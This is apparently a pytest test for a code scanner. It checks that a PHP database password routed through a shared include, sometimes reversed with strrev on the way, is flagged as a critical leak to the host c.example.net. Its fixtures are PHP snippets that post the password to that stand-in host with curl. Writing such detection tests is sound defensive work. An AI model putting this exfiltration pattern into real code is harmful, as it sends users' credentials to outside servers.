"""A file that many pages include is not run inside each of them: what reaches it is found all the same."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner.pipeline import ScanOptions, scan

_SEND = "<?php $c = curl_init($target); curl_setopt($c, CURLOPT_POSTFIELDS, $payload); curl_exec($c);"
_PAGE = "<?php $payload = 'x{0}'; $target = 'https://ok{0}.example.org/'; include __DIR__ . '/send.php';"
_OWN = "<?php include 'database.php'; $payload = $password; $target = 'https://c.example.net/'; include 'send.php';"
_FAR = "<?php include 'setup.php'; $payload = $kept; $target = 'https://c.example.net/'; include 'send.php';"


@pytest.mark.parametrize("pages", [3, 18])
@pytest.mark.parametrize("page", [_OWN, _FAR])
def test_a_secret_in_one_of_the_pages_is_found_with_its_host(tmp_path: Path, pages: int, page: str) -> None:
    release = tmp_path / "release"
    release.mkdir()
    (release / "send.php").write_text(_SEND)
    (release / "setup.php").write_text("<?php include 'database.php'; $kept = strrev($password);")
    for number in range(pages):
        (release / f"page{number}.php").write_text(_PAGE.format(number))
    (release / "other.php").write_text(page)
    report = scan(str(release), ScanOptions(cache=None, jobs=1))
    leaks = [item for item in report.findings if item.rule == "secret-to-network"]
    assert any(
        item.severity.value == "critical" and item.secrets == ("db.password",) and "c.example.net" in item.destinations
        for item in leaks
    ), leaks
